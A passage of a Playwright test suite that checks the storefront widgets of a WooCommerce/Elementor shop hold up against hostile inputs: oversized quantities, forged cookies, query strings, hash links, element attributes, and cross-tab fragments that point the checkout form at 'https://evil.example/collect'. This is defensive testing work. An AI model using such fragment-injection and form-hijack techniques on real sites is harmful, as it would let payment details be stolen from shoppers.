          await page.goto(path);
          await chunk;
          count(tally, 'page content: the loader’s document lookups (querySelector(All), head, documentElement, readyState…)', 1);
        }
        // A shopper's add through the shadowed page: core announces it in its own live region.
        content = `${decoys}${clobber(ALL_WIDGETS)}`;
        await page.goto('/boutique/');
        await widgetsReady(page, ['fk-add-to-cart', 'fk-side-cart']);
        await page.locator('a.ajax_add_to_cart[data-product_id="15"]').click();
        await expect(page.locator('div.vitrine-visually-hidden[aria-live="polite"]')).toContainText('ajouté');
        await page.waitForTimeout(300);
        expect(elsewhere, 'requests off the site').toEqual([]);
        await expectClean(page, left, 'page content');
        await report(testInfo, tally);
      });

    if (runs('limits'))
      test('quantities at the number limits, other tabs’ selectors and edit-mode arguments', async ({ page, store }, testInfo) => {
        const { left, tally } = await arm(page);
        // Quantities a plain decimal check lets through: finite and whole (1e308), Infinity once read, one past the
        // most a line holds, one past exact whole numbers. None may reach a cart, a cookie or a total.
        const HUGE = [`1${'0'.repeat(308)}`, `1${'0'.repeat(400)}`, '10000', '9007199254740993'];
        const LIMIT = /La quantité maximale (pour « Chocolat noir Grand Cru » )?est de 9999|Veuillez saisir une quantité valide/;
        const cartClean = async (step: string) => {
          expect(
            (await store.cart()).items.every((i) => i.quantity.value <= 9999),
            step,
          ).toBe(true);
          const cookies = Object.fromEntries((await page.context().cookies()).map((c) => [c.name, decodeURIComponent(c.value)]));
          for (const name of ['fkcart_cart_qty', 'fkcart_cart_total']) expect(cookies[name] ?? '', `${step}: ${name}`).not.toMatch(/e\+|∞|Infinity|NaN/);
          expect(Number.isFinite((await store.cart()).total.raw), `${step}: total`).toBe(true);
        };
        await page.goto('/?vitrine=off');
        for (const quantity of HUGE) {
          // The store API itself.
          const answer = await (await page.request.post('/?wc-ajax=add_to_cart', { form: { product_id: 15, quantity } })).json();
          expect(answer).toMatchObject({ error: true });
          // The listing's quantity field, as a theme prints one for every product: the shop refuses, the product page says why.
          await page.goto('/boutique/');
          await widgetsReady(page, ['fk-add-to-cart']);
          await page
            .locator('li.product', { hasText: 'Chocolat noir Grand Cru' })
            .locator('a.ajax_add_to_cart')
            .evaluate(
              (button, value) => button.insertAdjacentElement('beforebegin', Object.assign(document.createElement('input'), { className: 'qty', value })),
              quantity,
            );
          await page.locator('li.product', { hasText: 'Chocolat noir Grand Cru' }).locator('a.ajax_add_to_cart').click();
          await expect(page).toHaveURL(/\/produit\/chocolat-noir-grand-cru\/$/);
          await expect(page.locator('.woocommerce-error, .woocommerce-notices-wrapper').first()).toContainText(LIMIT);
          await cartClean(`listing ${quantity.length} digits`);
          count(tally, 'quantity: store API and listing field', 2);
        }
        // The product form: whatever the browser's own check lets through, the shop refuses in French.
        for (const quantity of HUGE) {
          await page.goto('/produit/chocolat-noir-grand-cru/');
          await widgetsReady(page, ['fk-variation-form', 'fk-side-cart']);
          const field = page.locator('fk-variation-form input.qty');
          await field.fill(quantity);
          // As on the cart page, Chromium refuses 1 followed by 400 zeros itself.
          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
            await page.locator('fk-variation-form button.single_add_to_cart_button').click();
            await expect(page.locator('body')).toContainText(LIMIT);
          }
          await cartClean(`product form ${quantity.length} digits`);
          count(tally, 'quantity: product form', 1);
        }
        // A line of the side cart and the cart page's form.
        await addToCart(page, { product_id: 15, quantity: 1 });
        await page.goto('/boutique/');
        await widgetsReady(page, ['fk-side-cart']);
        await page.locator('.fkcart-toggler').click();
        const line = page
          .getByRole('dialog', { name: /^Votre panier/ })
          .locator('li.fkcart-item')
          .first();
        for (const quantity of HUGE) {
          const field = line.getByRole('spinbutton');
          await field.fill(quantity);
          await field.press('Enter');
          await expect(line.locator('.vitrine-quantity__message')).toHaveText(/La quantité maximale est de 9999\.|Veuillez saisir une quantité valide\./);
          await expect(field).toHaveAttribute('aria-invalid', 'true');
          count(tally, 'quantity: side cart line', 1);
        }
        expect((await store.log()).filter((c) => c.endpoint === 'fkcart_update_item')).toEqual([]);
        await page.keyboard.press('Escape');
        for (const quantity of HUGE) {
          await page.goto('/?page_id=7');
          const field = page.locator('form.woocommerce-cart-form input.qty').first();
          await field.fill(quantity);
          // Chromium refuses 1 followed by 400 zeros itself (« Please enter a number »): nothing is posted then.
          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
            await page.locator('form.woocommerce-cart-form button[name="update_cart"]').click();
            await expect(page.locator('#main')).toContainText(LIMIT);
          }
          await cartClean(`cart page ${quantity.length} digits`);
          count(tally, 'quantity: cart page form', 1);
        }
        // What follows a refused quantity still works: a coupon, then the checkout.
        expect((await store.cart()).count).toBe(1);
        await page.request.post('/?wc-ajax=fkcart_apply_coupon', { form: { discount_code: 'BIENVENUE10' } });
        expect((await page.goto('/checkout/'))?.status()).toBe(200);
        await cartClean('coupon and checkout');

        // Another tab of the site (any script of the origin can post there) names regions Vitrine does not own.
        await widgetsReady(page, ['fk-side-cart']);
        const action = await page.locator('form[name="checkout"]').getAttribute('action');
        const other = await page.context().newPage();
        await other.goto('/?vitrine=off');
        const asked = page.waitForRequest((r) => r.url().includes('wc-ajax=get_refreshed_fragments'));
        await other.evaluate(() => {
          const channel = new BroadcastChannel('vitrine-cart');
          channel.postMessage({
            hash: 'autre-onglet',
            fragments: {
              'form[name="checkout"]': '<form name="checkout" class="fk-attack-markup" action="https://evil.example/collect"></form>',
              'form.checkout': '<form class="checkout fk-attack-markup" action="https://evil.example/collect"></form>',
              'header.site-header': '<header class="site-header fk-attack-markup">remplacé</header>',
              'body > *': '<p class="fk-attack-markup">tout remplacé</p>',
            },
          });
          channel.close();
        });
        // Dropped, and the shop asked instead.
        await asked;
        await other.close();
        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
        await expect(page.locator('header.site-header')).not.toContainText('remplacé');
        count(tally, 'other tab: BroadcastChannel fragments with foreign selectors', 4);
        // The same through this tab's session cache, replayed on load (its hash made the cookie's).
        await page.evaluate(() => {
          sessionStorage.setItem(
            'vitrine_fragments',
            JSON.stringify({
              hash: 'cache-forge',
              created: Date.now(),
              fragments: { 'form[name="checkout"]': '<form name="checkout" action="https://evil.example/"></form>' },
            }),
          );
          document.cookie = 'woocommerce_cart_hash=cache-forge; path=/';
        });
        await page.goto('/checkout/');
        await widgetsReady(page, ['fk-side-cart']);
        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
        count(tally, 'session cache: fragments with foreign selectors', 1);

        // Edit-mode arguments in the address: a visitor's page stays a visitor's (the loop refresh sends no editor payload).
        for (const query of [
          'elementor-preview=1',
          'elementor-preview=7',
          'elementor-preview[]=1&preview=true',
          'elementor-preview=1&preview_id=1&preview_nonce=x',
        ]) {
          await page.goto(`/selection/?${query}`);
          await widgetsReady(page, ['fk-loop-filter', 'fk-loop-grid']);
          const config = await page.locator('script#vitrine-config').evaluate((el) => JSON.parse(el.textContent ?? '{}'));
          expect(config.elementor?.is_edit_mode ?? false, query).toBe(false);
          const refresh = page.waitForRequest((r) => r.url().includes('refresh-loop'));
          await page.locator('fk-loop-filter').first().getByRole('button').nth(1).click();
          const body = (await refresh).postDataJSON() as Record<string, unknown>;
          expect(body.is_edit_mode, query).toBeUndefined();
          expect(body.widget_model, query).toBeUndefined();
          count(tally, 'edit-mode arguments in the address', 1);
        }
        await expectClean(page, left, 'limits, tabs and edit mode');
        await report(testInfo, tally);
      });

    if (runs('cookies'))
      test('cookies the widgets read', async ({ browser }, testInfo) => {
        const tally: Tally = {};
        // Cookies a script, another plugin or a sibling subdomain could have written. They are set by an init script,
        // after the server's own Set-Cookie (which would overwrite the cart ones) and before the widgets read them.
        const names = [
          'fkcart_cart_total',
          'fkcart_cart_qty',
          'woocommerce_cart_hash',
          'woocommerce_items_in_cart',
          'sbjs_current',
          'sbjs_first',
          'sbjs_current_add',
          'sbjs_first_add',
          'sbjs_udata',
          'sbjs_session',
          'wffn_flt',
          'wffn_fl_url',
          'wffn_referrer',
          'wffn_traffic_source',
          'wffn_fbclid',
          'pll_language',
        ];
        // Every cookie gets every payload once, over one page load per payload: raw (as far as a cookie can hold it)
        // on even loads, percent-encoded on odd ones (js-cookie decodes it back into the payload). Three shoppers (their
        // own cookie jars) share the loads.
        const value = (p: string, load: number) => (load % 2 ? encode(p) : p.replace(/[;\u0000-\u001f\u007f]/g, '').replace(LONE_SURROGATE, ''));
        const lanes = 3;
        const perLane = Math.ceil(CORPUS.length / lanes);
        await Promise.all(
          Array.from({ length: lanes }, async (_, lane) => {
            const context = await browser.newContext({ ...testInfo.project.use, bypassCSP: mode.bypassCSP });
            try {
              const page = await context.newPage();
              const { left } = await arm(page);
              await page.goto('/?vitrine=off');
              await addToCart(page, { product_id: 15, quantity: 1 });
              for (let load = lane * perLane; load < Math.min(CORPUS.length, (lane + 1) * perLane); load++) {
                const pairs = names.map((name, i) => [name, value(CORPUS[(load + i) % CORPUS.length]!.text, load)] as const);
                await page.addInitScript((list) => {
                  const write = () => {
                    for (const [name, v] of list) document.cookie = `${name}=${v}; path=/`;
                  };
                  write();
                  // Again and again until after fk-cart-count has read them: the side cart writes the cart cookies
                  // from the page's cart when it starts, and a hostile cart hash makes the page refresh its cart
                  // (the shop's answer sets them back too).
                  const timer = setInterval(write, 40);
                  setTimeout(() => clearInterval(timer), 1600);
                }, pairs);
                await page.goto('/mon-compte/');
                await widgetsReady(page, ['fk-cart-count', 'fk-attribution', 'fk-side-cart', 'fk-nav-menu']);
                // fk-cart-count reads the cookies 700 ms after it mounts (its ready mark).
                await page.waitForFunction(() => {
                  const mark = performance.getEntriesByName('vitrine:ready:fk-cart-count')[0];
                  return mark !== undefined && performance.now() > mark.startTime + 750;
                });
                expect((await page.locator('[data-fk-cart-total]').first().textContent())?.length ?? 0).toBeGreaterThan(0);
                await expectClean(page, left, `cookies, load ${load}`);
                count(tally, `cookie values read by the widgets (${names.join(', ')})`, names.length);
              }
            } finally {
              await context.close();
            }
          }),
        );
        await report(testInfo, tally);
      });

    if (runs('queries'))
      test('query strings, paths and URL hashes (filters, attribution, preselection, order page)', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        await page.goto('/?vitrine=off');
        await addToCart(page, { product_id: 15, quantity: 1 });
        // Percent-encoded for even payloads, as raw as a URL can carry for odd ones (the browser encodes the rest).
        const q = (p: string, raw: boolean) => (raw ? p.replace(/[#&%\u0000]/g, '').replace(LONE_SURROGATE, '') : encode(p));
        const ATTRIBUTION = [...CAMPAIGN_PARAMETERS, 'fbclid', 'gclid', 'yclid'];
        const FILTERS = ['e-filter-a1b2c3d-product_cat', 'e-filter-a1b2c3d-pa_couleur', 'e-page-a1b2c3d', 'theme_template_id'];
        const urls = CORPUS.flatMap(({ text: p }, i) => {
          const raw = i % 2 === 1;
          // An overlong value goes into one parameter (2000 characters: with the cookies, an address beyond the server's
          // 16 KB of headers is refused before any page exists), its tail into the rest.
          const params = (keys: string[]) => keys.map((k, n) => `${k}=${q(p.length < 300 ? p : p.slice(n === 0 ? -2000 : -80), raw)}`).join('&');
          // One address per payload, the two families taking turns.
          return i % 2 === 0
            ? [
                `/selection/?${params([...FILTERS, ...ATTRIBUTION])}${hashAction('lightbox', { type: 'image', url: p.slice(-300), title: p.slice(-300), html: p.slice(-300), onclick: p.slice(-300) })}`,
              ]
            : [`/produit/t-shirt-leman/?${params(['attribute_pa_taille', 'attribute_pa_couleur', ...ATTRIBUTION])}#${q(p.slice(-300), true)}`];
        });
        // Same-origin frames, four at a time: each runs the widgets on its own address.
        for (let i = 0; i < urls.length; i += 4) {
          const batch = urls.slice(i, i + 4);
          await page.evaluate((srcs) => {
            document.querySelectorAll('iframe.fk-attack-frame').forEach((f) => f.remove());
            for (const src of srcs) {
              const frame = document.createElement('iframe');
              frame.className = 'fk-attack-frame';
              frame.width = '900';
              frame.height = '700';
              frame.src = src;
              document.body.append(frame);
            }
          }, batch);
          const state = async () => {
            const frames = page.frames().slice(1);
            return Promise.all(
              frames.map(
                async (f) =>
                  `${f.url()}: ${await f
                    .locator('fk-attribution[data-vitrine-ready]')
                    .count()
                    .catch(() => 0)}`,
              ),
            );
          };
          await expect
            .poll(
              async () => {
                const frames = await state();
                return frames.length === batch.length && frames.every((f) => !f.endsWith(': 0'));
              },
              { timeout: 30_000 },
            )
            .toBe(true)
            .catch(async (error: unknown) => {
              throw new Error(`frames not ready: ${(await state()).join('\n')}\n${String(error)}`);
            });
          await page.waitForTimeout(300);
          await expectClean(page, left, `addresses ${i}–${i + batch.length - 1}`);
        }
        const half = Math.ceil(CORPUS.length / 2);
        count(tally, 'loop filter query (e-filter-*, e-page-*) and theme_template_id', half * FILTERS.length);
        count(tally, 'attribution query (utm_*, fbclid, gclid, yclid)', CORPUS.length * ATTRIBUTION.length);
        count(tally, 'variation preselection query (attribute_pa_*)', (CORPUS.length - half) * 2);
        count(tally, 'hash action in the page address (lightbox); plain page hash', CORPUS.length);

        // Addresses only the server reads: the markup it prints never carries a payload's markup.
        for (const { text: p } of CORPUS) {
          for (const path of [
            `/boutique/?orderby=${encode(p)}&product_cat=${encode(p)}`,
            `/checkout/order-received/1/?key=${encode(p)}`,
            `/produit/${encode(p)}/`,
          ]) {
            const res = await page.request.get(path, { maxRedirects: 0 });
            expect(res.status(), path).toBeLessThan(500);
            const body = await res.text();
            if (/[<>"]/.test(p)) expect(body.includes(p), path).toBe(false);
          }
        }
        count(tally, 'server-read query and path (orderby, product_cat, order key, product slug)', CORPUS.length * 4);

        // The attribution written from those addresses lands in the checkout form as values, never markup.
        await page.goto('/checkout/');
        await widgetsReady(page, ['fk-attribution']);
        await expect(page.locator('form[name="checkout"] .fk-order-attribution input')).toHaveCount(16);
        await expectClean(page, left, 'checkout attribution fields');
        count(tally, 'attribution cookies → checkout hidden fields', 16);
        await report(testInfo, tally);
      });

    if (runs('hash links'))
      test('hash action links and anchors the shopper clicks', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        await withoutDemoPopups(page);
        await page.goto('/selection/');
        await widgetsReady(page, ['fk-hash-actions', 'fk-popup', 'fk-off-canvas']);
        const variants = (p: string): string[] => [
          hashAction('lightbox', { type: 'image', url: p }),
          hashAction('lightbox', { type: 'video', url: p, videoType: p }),
          hashAction('lightbox', { type: 'image', url: 'https://images.example/a.png', title: p, description: p, html: p, onclick: p, onload: p }),
          hashAction('lightbox', { type: 'slideshow', slideshow: p, slides: [{ image: p, title: p }] }),
          hashAction('popup:open', { id: p }),
          hashAction('popup:close', { id: p, do_not_show_again: p }),
          hashAction('off_canvas:toggle', { id: p }),
          `#elementor-action:action=${encode(p)}&settings=${encode(p)}`,
          `#elementor-action:action=lightbox&settings=${p}`,
          `#${p}`,
        ];
        const hrefs = CORPUS.flatMap((entry) => variants(entry.text));
        const traces = await page.evaluate(async (list) => {
          const w = window as unknown as { __inspect: () => string[] };
          const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
          const found: string[] = [];
          const host = document.querySelector('#main')!;
          for (const href of list) {
            const link = document.createElement('a');
            link.setAttribute('href', href);
            link.className = 'elementor-button';
            link.textContent = 'Voir';
            host.prepend(link);
            link.dispatchEvent(new PointerEvent('pointerover', { bubbles: true }));
            link.click();
            await frame();
            found.push(...w.__inspect().map((f) => `${href.slice(0, 60)} → ${f}`));
            document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
            link.remove();
            // An overlay that opened makes the page inert until it has gone.
            if (document.querySelector('[aria-modal="true"], [inert]')) await frame();
          }
          return found;
        }, hrefs);
        expect(traces).toEqual([]);
        await page.waitForTimeout(300);
        await expectClean(page, left, 'hash links');
        count(tally, 'hash action links (lightbox, popup, off-canvas, malformed) and anchors', hrefs.length);
        await report(testInfo, tally);
      });

    if (runs('attributes'))
      test('theme developer attributes on the custom elements', async ({ page }, testInfo) => {
        const { left, tally } = await arm(page);
        await withoutDemoPopups(page);
        await page.goto('/?vitrine=off');
        await addToCart(page, { product_id: 15, quantity: 1 });
        await page.goto('/selection/');
        await widgetsReady(page, ['fk-hash-actions', 'fk-side-cart']);
        const payloads = CORPUS.map((p) => [p.text, encode(p.text)] as const);
        const kinds = await page.evaluate(async (list) => {
          const w = window as unknown as { __inspect: () => string[] };
          const box = document.createElement('div');
          box.className = 'fk-attack-box';
          document.querySelector('#main')!.append(box);
          const el = (tag: string, attrs: Record<string, string>, ...children: Node[]) => {
            const node = document.createElement(tag);
            for (const [k, v] of Object.entries(attrs)) node.setAttribute(k, v);
            node.append(...children);
            return node;
          };
          const text = (s: string) => document.createTextNode(s);
          const kinds: Record<string, number> = {};
          const made = (kind: string, n: number) => (kinds[kind] = (kinds[kind] ?? 0) + n);
          list.forEach(([p, encoded], i) => {
            const settings = JSON.stringify({
              classes: p,
              open_selector: p,
              entrance_animation: p,
              close_button_position: p,
              timing: { url: 'yes', url_url: p, url_action: 'regex' },
              triggers: { scrolling_to: 'yes', scrolling_to_selector: p, click: 'yes', click_times: p },
            });
            box.append(
              el('fk-popup', { 'popup-id': p, label: p, settings: p }, el('h2', {}, text(p))),
              el('fk-popup', { 'popup-id': `attack-${i}`, settings, label: p }, el('p', {}, text(p))),
              el('fk-off-canvas', { 'panel-id': p, label: p, position: p, 'prevent-close-on-overlay': p, 'prevent-scroll': p }, el('p', {}, text(p))),
              el(
                'fk-loop-filter',
                { 'widget-id': p, target: p, taxonomy: p, 'logical-join': p, multiple: p, label: p },
                el('a', { 'data-filter': p, href: `?e-filter=${encoded}` }, text(p)),
              ),
              el('fk-loop-grid', { 'widget-id': p, 'post-id': p, 'widget-model': p }),
              el('fk-product-view', { 'product-id': p, name: p, category: p, price: p, type: p, quantity: p, 'is-admin': p }),
              el(
                'fk-add-to-cart',
                {},
                el(
                  'a',
                  {
                    class: 'button ajax_add_to_cart add_to_cart_button',
                    href: `/?add-to-cart=${encoded}`,
                    'data-product_id': p,
                    'data-quantity': p,
                    'data-product_sku': p,
                    'aria-label': p,
                  },
                  text('Ajouter'),
                ),
              ),
              el(
                'fk-store-notice',
                {},
                el(
                  'p',
                  { class: 'woocommerce-store-notice', 'data-notice-id': p },
                  text(p),
                  el('a', { class: 'woocommerce-store-notice__dismiss-link', role: 'button', href: '#' }, text('Ignorer')),
                ),
              ),
              el(
                'fk-coming-soon',
                {},
                el('div', { id: `coming-soon-${i}` }, el('a', { class: 'coming-soon-footer-banner-dismiss', 'data-rest-url': p, 'data-rest-nonce': p })),
              ),
              el('fk-lazy-bg', {}, el('div', { 'data-fk-lazy-bg': p, style: 'width:10px;height:10px' })),
              el('fk-express-button', { context: p, placement: p, 'order-data': p }),
            );
            // Hostile values per element: attributes, JSON settings fields, and the text children a widget reads.
            const values: Array<[string, number]> = [
              ['fk-popup (popup-id, label, settings, content)', 4],
              ['fk-popup settings JSON (classes, selectors, animation, position, URL regex, counts) and label', 8],
              ['fk-off-canvas (panel-id, label, position, prevent-*)', 5],
              ['fk-loop-filter (widget-id, target, taxonomy, logical-join, multiple, label, term slug and name)', 8],
              ['fk-loop-grid (widget-id, post-id, widget-model)', 3],
              ['fk-product-view (product-id, name, category, price, type, quantity, is-admin)', 7],
              ['fk-add-to-cart button data (product_id, quantity, sku, label)', 4],
              ['fk-store-notice (notice id → cookie name, text)', 2],
              ['fk-coming-soon (rest url, rest nonce)', 2],
              ['fk-lazy-bg (background URL)', 1],
              ['fk-express-button (context, placement, order-data)', 3],
            ];
            for (const [kind, n] of values) made(kind, n);
          });
          // Let the loader define them and React mount them, then use what a shopper would.
          await new Promise((resolve) => setTimeout(resolve, 1500));
          for (const link of Array.from(box.querySelectorAll<HTMLElement>('.woocommerce-store-notice__dismiss-link, .coming-soon-footer-banner-dismiss')))
            link.click();
          for (const button of Array.from(box.querySelectorAll<HTMLElement>('fk-loop-filter button')).slice(0, 40)) button.click();
          await new Promise((resolve) => setTimeout(resolve, 800));
          const found = w.__inspect();
          return { kinds, found };
        }, payloads);
        expect(kinds.found).toEqual([]);
        await expectClean(page, left, 'element attributes');
        for (const [kind, n] of Object.entries(kinds.kinds)) count(tally, kind, n);
        await report(testInfo, tally);
      });
  });
}
